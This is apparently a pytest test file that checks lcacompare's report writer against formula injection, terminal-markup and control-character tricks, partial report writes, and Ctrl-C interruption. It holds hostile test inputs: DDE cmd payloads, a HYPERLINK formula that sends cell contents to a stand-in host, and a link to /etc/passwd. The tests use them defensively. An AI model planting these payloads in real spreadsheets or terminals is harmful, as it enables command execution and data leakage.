"""Hardening of what lcacompare writes and prints: workbook cells, terminal text, report sets, Ctrl-C.

User text (case titles, sources, dataset names, output paths) is data everywhere: it never becomes
a spreadsheet formula or terminal markup. A report set is replaced all or none, and an interrupted
run says so and leaves the earlier reports as they were. The CLI runs in-process
(``lcacompare.cli.main``) with ``--samples 0`` so each run takes about a second.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from rich.console import Console

from lcacompare import cli
from lcacompare.report import writer
from tests.test_bad_inputs import run_cli as shared_run_cli

TESTS = Path(__file__).resolve().parent
DATASETS = TESTS / "data" / "datasets"
CASE = TESTS / "data" / "clamp.yaml"
CASE_ID = "test-clamp"
BASE = CASE.read_text(encoding="utf-8")
INTERRUPTED = "interrupted: no reports written; earlier reports left untouched"

# Texts a spreadsheet would run if they were stored as formulas (CSV/formula injection, DDE).
HOSTILE_TEXTS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def run_cli(*args: str) -> tuple[int, str, str]:
    """The shared in-process CLI runner (``tests.test_bad_inputs.run_cli``): exit code, stdout, stderr."""
    outcome = shared_run_cli(*args)
    return outcome.code, outcome.stdout, outcome.stderr


def run_case(case: Path, out: Path, home: Path, *extra: str) -> tuple[int, str, str]:
    return run_cli("run", str(case), "--output", str(out), "--home", str(home), "--samples", "0", *extra)


def write_case(tmp_path: Path, old: str, new: str) -> Path:
    assert BASE.count(old) == 1, old
    path = tmp_path / "case.yaml"
    path.write_text(BASE.replace(old, new), encoding="utf-8")
    return path


def files_of(folder: Path) -> dict[str, bytes]:
    """Every entry of a report folder, hidden temporaries included, with the bytes of regular files."""
    return {p.name: (p.read_bytes() if p.is_file() else b"<not a file>") for p in sorted(folder.iterdir())}


def sheets_xml(data: bytes) -> dict[str, str]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")}


def all_cells(data: bytes) -> list:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def strip_ansi(text: str) -> str:
    return re.sub(r"\x1b\[[0-9;]*m", "", text)


def one_line(text: str) -> str:
    """Printed text with line breaks and runs of spaces made single spaces (terminal width varies)."""
    return " ".join(text.split())


@pytest.fixture(autouse=True)
def _test_datasets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LCACOMPARE_DATASETS", str(DATASETS))
    monkeypatch.setenv("LCACOMPARE_DEBUG", "1")


@pytest.fixture(scope="module")
def warm_home(home: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The session home with the test datasets' Brightway project built."""
    out = tmp_path_factory.mktemp("warm-up")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("LCACOMPARE_DATASETS", str(DATASETS))
        code, _, stderr = run_case(CASE, out, home)
    assert code == 0, stderr
    return home


@pytest.fixture(scope="module")
def result_doc(warm_home: Path, tmp_path_factory: pytest.TempPathFactory) -> dict:
    out = tmp_path_factory.mktemp("doc")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("LCACOMPARE_DATASETS", str(DATASETS))
        code, _, stderr = run_case(CASE, out, warm_home, "--report", "json")
    assert code == 0, stderr
    return json.loads((out / CASE_ID / "result.json").read_text(encoding="utf-8"))


@pytest.fixture()
def earlier_reports(warm_home: Path, tmp_path: Path) -> tuple[Path, Path, dict[str, bytes]]:
    """A complete earlier report set, and a case with other figures whose reports would differ."""
    out = tmp_path / "reports"
    code, _, stderr = run_case(CASE, out, warm_home)
    assert code == 0, stderr
    changed = write_case(tmp_path, "amount: 30 g", "amount: 31 g")
    return out, changed, files_of(out / CASE_ID)


# -- 1. workbook formula injection ----------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=["hyperlink", "dde", "plus", "minus", "at", "tab", "cr"])
def test_workbook_stores_hostile_case_and_dataset_texts_as_strings_not_formulas(result_doc: dict, text: str) -> None:
    from lcacompare.report.xlsx import render_xlsx

    doc = json.loads(json.dumps(result_doc))
    doc["case"]["title"] = text
    doc["case"]["functional_unit"] = text
    doc["options"][0]["title"] = text
    line = doc["options"][0]["lines"][0]
    line.update(activity=text, activity_name=text, source=text, assumption=text)
    doc["inputs"][0].update(source=text, assumption=text, expression=text, source_url=text)
    data = render_xlsx(doc)
    for name, xml in sheets_xml(data).items():
        assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"
    cells = all_cells(data)
    hostile = [c for c in cells if c.value == text]
    assert len(hostile) >= 10, "the text is not preserved exactly"
    assert all(c.data_type == "s" for c in hostile)
    assert all(c.quotePrefix for c in hostile), "editing the cell in a spreadsheet would make it a formula"
    numbers = [c for c in cells if isinstance(c.value, float)]
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_workbook_of_a_run_keeps_hostile_dataset_name_source_and_case_title_as_text(
    warm_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    datasets = tmp_path / "datasets"
    shutil.copytree(DATASETS, datasets)
    factors = datasets / "factors" / "test.csv"
    rows = list(csv.DictReader(factors.open(encoding="utf-8", newline="")))
    for row in rows:
        if row["id"] == "polypropylene":
            row.update(name=HOSTILE_TEXTS[0], source=HOSTILE_TEXTS[1], notes=HOSTILE_TEXTS[2])
    with factors.open("w", encoding="utf-8", newline="") as handle:
        table = csv.DictWriter(handle, fieldnames=list(rows[0]))
        table.writeheader()
        table.writerows(rows)
    monkeypatch.setenv("LCACOMPARE_DATASETS", str(datasets))
    title = '=HYPERLINK("http://x.example/?"&A1,"click")'
    case = write_case(tmp_path, "title: Test clamp, single-use vs reusable", f"title: '{title}'")
    code, _, stderr = run_case(case, tmp_path / "out", warm_home, "--report", "xlsx")
    assert code == 0, stderr
    data = (tmp_path / "out" / CASE_ID / "report.xlsx").read_bytes()
    assert not [n for n, xml in sheets_xml(data).items() if "<f>" in xml]
    values = {c.value for c in all_cells(data)}
    assert {title, HOSTILE_TEXTS[0], HOSTILE_TEXTS[1]} <= values


# -- 2. terminal markup and control characters ----------------------------------------------------
@pytest.mark.parametrize("title", ["[/]", "[bold]x[/bold]", "[link=file:///etc/passwd]x[/link]", ":thumbs_up: ok"])
def test_case_title_is_printed_literally_not_as_markup(warm_home: Path, tmp_path: Path, title: str) -> None:
    case = write_case(tmp_path, "title: Test clamp, single-use vs reusable", f"title: '{title}'")
    code, stdout, stderr = run_case(case, tmp_path / "out", warm_home)
    assert code == 0, stderr
    assert title in stdout


def test_link_markup_in_a_title_emits_no_terminal_hyperlink(
    warm_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    screen = io.StringIO()
    monkeypatch.setattr(cli, "_out", Console(file=screen, force_terminal=True, width=200))
    title = "[link=file:///etc/passwd]x[/link]"
    case = write_case(tmp_path, "title: Test clamp, single-use vs reusable", f"title: '{title}'")
    code, _, stderr = run_case(case, tmp_path / "out", warm_home)
    assert code == 0, stderr
    assert "\x1b]8;" not in screen.getvalue()
    assert title in strip_ansi(screen.getvalue())


def test_output_path_with_brackets_is_printed_as_given(warm_home: Path, tmp_path: Path) -> None:
    out = tmp_path / "reports [v2]"
    code, stdout, stderr = run_case(CASE, out, warm_home)
    assert code == 0, stderr
    assert str(out / CASE_ID) in one_line(stdout)
    assert (out / CASE_ID / "result.json").is_file()


def test_control_characters_in_a_printed_path_are_shown_escaped(warm_home: Path, tmp_path: Path) -> None:
    out = tmp_path / "red\x1b[31mreports"
    code, stdout, stderr = run_case(CASE, out, warm_home)
    assert code == 0, stderr
    assert "\x1b" not in stdout + stderr
    assert "red\\x1b[31mreports" in one_line(stdout)


def test_note_on_reports_from_an_earlier_run_prints_the_folder_literally(warm_home: Path, tmp_path: Path) -> None:
    out = tmp_path / "old [bold]"
    assert run_case(CASE, out, warm_home)[0] == 0
    code, _, stderr = run_case(CASE, out, warm_home, "--report", "json")
    assert code == 0, stderr
    assert str(out / CASE_ID) in one_line(stderr)


def test_validate_and_init_print_paths_literally(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("LCACOMPARE_DATASETS")  # the template uses the shipped datasets
    folder = tmp_path / "cases [draft]"
    code, stdout, stderr = run_cli("init", "gown", "--folder", str(folder))
    assert code == 0, stderr
    assert str(folder / "gown.yaml") in one_line(stdout)
    code, stdout, stderr = run_cli("validate", str(folder / "gown.yaml"))
    assert code == 0, stderr
    assert str(folder / "gown.yaml") in one_line(stdout)


def test_error_messages_show_control_characters_escaped(tmp_path: Path) -> None:
    code, _, stderr = run_cli("validate", str(tmp_path / "missing\x1b[2J.yaml"))
    assert code == 2
    assert "\x1b" not in stderr
    assert "\\x1b[2J" in stderr


# -- 3. all-or-none report sets -------------------------------------------------------------------
def test_a_folder_in_place_of_one_report_replaces_none_of_them(warm_home: Path, tmp_path: Path) -> None:
    out = tmp_path / "reports"
    assert run_case(CASE, out, warm_home, "--report", "json")[0] == 0
    (out / CASE_ID / "report.xlsx").mkdir()
    before = files_of(out / CASE_ID)
    changed = write_case(tmp_path, "amount: 30 g", "amount: 31 g")
    code, _, stderr = run_case(changed, out, warm_home)
    assert code == 2, stderr
    assert str(out / CASE_ID / "report.xlsx") in one_line(stderr)
    assert "Traceback" not in stderr
    assert files_of(out / CASE_ID) == before


def test_a_fifo_in_place_of_a_report_is_refused_and_nothing_replaced(
    earlier_reports: tuple[Path, Path, dict[str, bytes]], warm_home: Path
) -> None:
    out, changed, _ = earlier_reports
    target = out / CASE_ID / "report.html"
    target.unlink()
    os.mkfifo(target)
    before = files_of(out / CASE_ID)
    code, _, stderr = run_case(changed, out, warm_home)
    assert code == 2, stderr
    assert str(target) in one_line(stderr)
    assert files_of(out / CASE_ID) == before
    assert not target.is_file()


@pytest.mark.parametrize("links", ["hard-links", "no-hard-links"])
def test_a_failure_while_moving_reports_into_place_restores_the_earlier_set(
    earlier_reports: tuple[Path, Path, dict[str, bytes]],
    warm_home: Path,
    monkeypatch: pytest.MonkeyPatch,
    links: str,
) -> None:
    out, changed, before = earlier_reports
    if links == "no-hard-links":  # e.g. FAT or some network file systems: the old files are copied

        def refuse(*args: object, **kwargs: object) -> None:
            raise PermissionError(1, "Operation not permitted")

        monkeypatch.setattr(writer.os, "link", refuse)
    real = os.replace
    moved: list[str] = []

    def fail_second_report(src: str | Path, dst: str | Path) -> None:
        if Path(dst).parent == out / CASE_ID and not Path(dst).name.startswith("."):
            moved.append(Path(dst).name)
            if len(moved) == 2:
                raise OSError(5, "Input/output error")
        real(src, dst)

    monkeypatch.setattr(writer.os, "replace", fail_second_report)
    code, _, stderr = run_case(changed, out, warm_home)
    monkeypatch.setattr(writer.os, "replace", real)
    assert code == 2, stderr
    assert len(moved) >= 2, "the failure was never reached"
    assert moved[1] in stderr
    assert files_of(out / CASE_ID) == before


@pytest.mark.parametrize("kind", ["fifo", "folder"])
def test_schema_output_refuses_to_replace_what_is_not_a_regular_file_but_replaces_a_file(
    tmp_path: Path, kind: str
) -> None:
    target = tmp_path / "case.schema.json"
    os.mkfifo(target) if kind == "fifo" else target.mkdir()
    code, _, stderr = run_cli("schema", "--output", str(target))
    assert code == 2, stderr
    assert str(target) in one_line(stderr)
    assert not target.is_file() and target.exists()
    assert [p.name for p in tmp_path.iterdir()] == [target.name]
    target.unlink() if kind == "fifo" else target.rmdir()
    target.write_text("old", encoding="utf-8")
    code, _, stderr = run_cli("schema", "--output", str(target))
    assert code == 0, stderr
    assert json.loads(target.read_text(encoding="utf-8"))["title"].startswith("lcacompare case")


@pytest.mark.parametrize("kind", ["fifo", "folder"])
def test_init_force_refuses_to_replace_what_is_not_a_regular_file(tmp_path: Path, kind: str) -> None:
    target = tmp_path / "gown.yaml"
    os.mkfifo(target) if kind == "fifo" else target.mkdir()
    code, _, stderr = run_cli("init", "gown", "--folder", str(tmp_path), "--force")
    assert code == 2, stderr
    assert str(target) in one_line(stderr)
    assert not target.is_file() and target.exists()
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


# -- 4. Ctrl-C ------------------------------------------------------------------------------------
def test_ctrl_c_while_rendering_says_no_reports_written_and_exits_130(
    earlier_reports: tuple[Path, Path, dict[str, bytes]], warm_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from lcacompare.report import render

    out, changed, before = earlier_reports

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(render, "render_reports", interrupted)
    code, stdout, stderr = run_case(changed, out, warm_home)
    assert code == 130
    assert INTERRUPTED in stderr
    assert "Reports written" not in stdout
    assert files_of(out / CASE_ID) == before


def test_ctrl_c_while_moving_reports_into_place_leaves_the_earlier_set_and_no_temporaries(
    earlier_reports: tuple[Path, Path, dict[str, bytes]], warm_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out, changed, before = earlier_reports
    real = os.replace
    moved: list[str] = []

    def interrupt_second_report(src: str | Path, dst: str | Path) -> None:
        if Path(dst).parent == out / CASE_ID and not Path(dst).name.startswith("."):
            moved.append(Path(dst).name)
            if len(moved) == 2:
                raise KeyboardInterrupt
        real(src, dst)

    monkeypatch.setattr(writer.os, "replace", interrupt_second_report)
    code, _, stderr = run_case(changed, out, warm_home)
    monkeypatch.setattr(writer.os, "replace", real)
    assert code == 130
    assert INTERRUPTED in stderr
    assert files_of(out / CASE_ID) == before


def test_ctrl_c_while_comparing_exits_130_without_creating_reports(
    warm_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from lcacompare import engine

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(engine, "compare", interrupted)
    out = tmp_path / "reports"
    code, _, stderr = run_case(CASE, out, warm_home)
    assert code == 130
    assert INTERRUPTED in stderr
    assert not (out / CASE_ID).exists() or not list((out / CASE_ID).iterdir())
